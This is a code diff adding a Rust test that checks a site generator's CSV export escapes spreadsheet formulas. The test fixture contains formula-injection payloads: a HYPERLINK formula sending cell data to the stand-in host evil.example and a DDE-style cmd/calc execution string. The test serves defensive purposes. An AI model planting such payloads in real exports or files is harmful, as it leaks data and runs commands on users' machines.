@@ -304,6 +304,27 @@ Monitor,\"Medical specialists (pain clinic, rehabilitation)\",Referrers and GPs,
 }
 
 #[test]
+fn csv_cells_that_could_run_as_formulas_are_written_as_text() {
+    let site = Site::fixture("stakeholders");
+    let map = site.read("content/map.md").replace(
+        r#"{ action = "Plan feedback time", owner = "Lead" }"#,
+        r#"{ action = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", owner = "@SUM(1+1)*cmd|' /C calc'!A0" }"#,
+    );
+    site.write(
+        "content/map.md",
+        &map.replace("\"Board of directors\"", "\"+Board\""),
+    );
+    site.run(&["build", "--quiet"]).success();
+    let csv = site.read("public/map/map.csv");
+    for row in [
+        "Manage closely,Team manager,Management,5,4,Supporter,Inner setting,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",'@SUM(1+1)*cmd|' /C calc'!A0\r\n",
+        "Keep satisfied,'+Board,Board,5,2,",
+    ] {
+        assert!(csv.contains(row), "{csv}");
+    }
+}
+
+#[test]
 fn bad_maps_fail_with_their_place_in_the_file() {
     fails_with("errors/stakeholders", &["build"], 1);
 }
